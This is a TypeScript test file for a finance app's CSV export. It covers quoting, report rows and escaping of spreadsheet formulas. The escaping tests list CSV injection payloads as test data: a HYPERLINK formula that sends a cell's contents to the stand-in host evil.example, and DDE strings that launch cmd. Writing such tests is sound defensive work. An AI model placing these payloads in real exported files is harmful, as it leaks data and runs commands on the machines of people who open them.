// RFC 4180 CSV and the spreadsheet formula escaping of every finance CSV export. The trigger
// characters are OWASP's "CSV Injection" list (owasp.org/www-community/attacks/CSV_Injection):
// a cell starting with =, +, -, @, tab or carriage return is read as a formula.
import { describe, expect, it } from 'vitest';
import { escapeFormula, formatCsv, parseCsv, unescapeFormula } from '../../src/finance/csv.js';
import { breakdownCsv, inputLabel, scorecardMonthsCsv } from '../../src/finance/report-csv.js';
import { scorecard } from '../../src/finance/scorecard.js';
import { supportAssistantCase } from './case.fixture.js';

describe('CSV', () => {
  it('round-trips quotes, commas and line breaks with line numbers', () => {
    const text = formatCsv(
      ['a', 'b'],
      [
        { a: 'x, "y"', b: 'two\nlines' },
        { a: 1, b: null },
      ],
    );
    const recs = parseCsv(text);
    expect(recs.map((r) => r.fields)).toEqual([
      ['a', 'b'],
      ['x, "y"', 'two\nlines'],
      ['1', ''],
    ]);
    expect(recs.map((r) => r.line)).toEqual([1, 2, 4]);
  });
});

describe('formula escaping (OWASP CSV injection)', () => {
  const attacks = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
  ];

  it.each(attacks)('prefixes %j with an apostrophe and reads it back unchanged', (attack) => {
    const text = formatCsv(['name'], [{ name: attack }]);
    const cell = parseCsv(text)[1]!.fields[0]!;
    expect(cell).toBe(`'${attack}`);
    expect(unescapeFormula(cell)).toBe(attack);
  });

  it('leaves numbers (numeric values and plain numeric text) and ordinary text alone', () => {
    for (const v of ['-12.5', '-3', '+7', '1e-7', '-0.25E+3', 'Support assistant', "'quoted'", ''])
      expect(escapeFormula(v)).toBe(v);
    const text = formatCsv(['n', 's'], [{ n: -12.5, s: '-4' }]);
    expect(parseCsv(text)[1]!.fields).toEqual(['-12.5', '-4']);
    // A minus that is not a plain number is a formula: "-2+3" evaluates to 1.
    expect(escapeFormula('-2+3')).toBe("'-2+3");
    expect(unescapeFormula("'quoted'")).toBe("'quoted'");
  });
});

describe('report CSV', () => {
  it('exports the scorecard months and the TCO breakdown with a total row', () => {
    const s = scorecard(supportAssistantCase());
    const months = parseCsv(scorecardMonthsCsv(s));
    expect(months).toHaveLength(37);
    expect(months[1]!.fields.slice(0, 4)).toEqual(['1', '140000', '0', '-140000']);
    const tco = parseCsv(breakdownCsv(s.tco)).map((r) => r.fields);
    expect(tco[0]!.slice(0, 3)).toEqual(['key', 'label', 'kind']);
    expect(tco.at(-1)!.slice(0, 5)).toEqual(['total', 'total', '', '', '477000']);
    expect(tco[0]).toHaveLength(7 + 36);
  });

  it('labels tornado inputs with the name of their cost item or value stream', () => {
    const names = new Map([
      ['c1', 'GPU lease'],
      ['v1', 'Agent time saved'],
    ]);
    expect(inputLabel('costItems[c1].amount', names)).toBe('GPU lease: amount');
    expect(inputLabel('valueStreams[v1].adoption.maxFraction', names)).toBe(
      'Agent time saved: adoption.maxFraction',
    );
    expect(inputLabel('costItems[gone].amount', names)).toBe('gone: amount');
    expect(inputLabel('discountRatePerYear', names)).toBe('discountRatePerYear');
  });
});
